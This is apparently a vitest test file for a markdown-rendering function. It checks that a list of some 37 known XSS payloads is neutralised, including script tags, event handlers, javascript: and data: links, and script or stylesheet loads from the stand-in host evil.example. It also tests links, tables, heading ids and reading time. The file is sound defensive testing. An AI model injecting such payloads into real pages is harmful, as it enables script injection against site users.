import { describe, expect, it } from 'vitest';

import { renderMarkdown } from './render-markdown';

// Known XSS payloads, as raw HTML and as markdown constructs.
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{display:none}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<video><source onerror=alert(1)></video>',
  '<p id="location" name="x">clobber</p>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[click](  javascript:alert(1)  )',
  '<javascript:alert(1)>',
  '[a](java\tscript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '<a href="#" onclick="alert(1)">x</a>',
  '<img src="https://example.com/a.png" onload="alert(1)">',
];

function assertSafe(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<style/i);
  expect(html).not.toMatch(/<iframe/i);
  expect(html).not.toMatch(/<(object|embed|form|input|meta|base|link|svg|math|video|body)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(href|src|action|data)\s*=\s*"\s*(javascript|vbscript|data):/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
  expect(html).not.toMatch(/\sid="location"/);
}

describe('renderMarkdown safety', () => {
  it.each(payloads)('neutralises %s', (payload) => {
    assertSafe(renderMarkdown(payload).html);
    assertSafe(renderMarkdown(`Some text\n\n${payload}\n\nMore text`).html);
  });

  it('has a corpus of at least 30 payloads', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(30);
  });

  it('keeps http, https, mailto and tel links', () => {
    const { html } = renderMarkdown(
      '[a](https://example.com) [b](http://example.com) [c](mailto:hi@example.com) [d](tel:+919800000000) [e](/blog)',
    );
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('href="http://example.com"');
    expect(html).toContain('href="mailto:hi@example.com"');
    expect(html).toContain('href="tel:+919800000000"');
    expect(html).toContain('href="/blog"');
  });

  it('shows code as text', () => {
    expect(renderMarkdown('`<script>`').html).toContain('<code>&#x3C;script></code>');
  });
});

describe('renderMarkdown structure', () => {
  it('renders GitHub-flavoured tables and lists', () => {
    const { html } = renderMarkdown('| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two');
    expect(html).toContain('<table>');
    expect(html).toContain('<li>one</li>');
  });

  it('builds the table of contents with unique ids, even for repeated headings', () => {
    const { html, toc } = renderMarkdown(
      '# Title\n\n## Why it matters\n\n### Details\n\n## Why it matters\n\n## Café & Co.',
    );
    expect(toc).toEqual([
      { id: 'title', text: 'Title', level: 1 },
      { id: 'why-it-matters', text: 'Why it matters', level: 2 },
      { id: 'details', text: 'Details', level: 3 },
      { id: 'why-it-matters-1', text: 'Why it matters', level: 2 },
      { id: 'café--co', text: 'Café & Co.', level: 2 },
    ]);
    for (const entry of toc) expect(html).toContain(`id="${entry.id}"`);
  });

  it('ignores ids written by the author', () => {
    const { toc } = renderMarkdown('<h2 id="evil">Raw</h2>\n\n## Real');
    expect(toc.map((t) => t.id)).toEqual(['real']);
  });

  it('counts words and reading time', () => {
    const words = Array.from({ length: 401 }, () => 'word').join(' ');
    const rendered = renderMarkdown(`## Heading\n\n${words}`);
    expect(rendered.wordCount).toBe(402);
    expect(rendered.readingMinutes).toBe(3);
  });
});
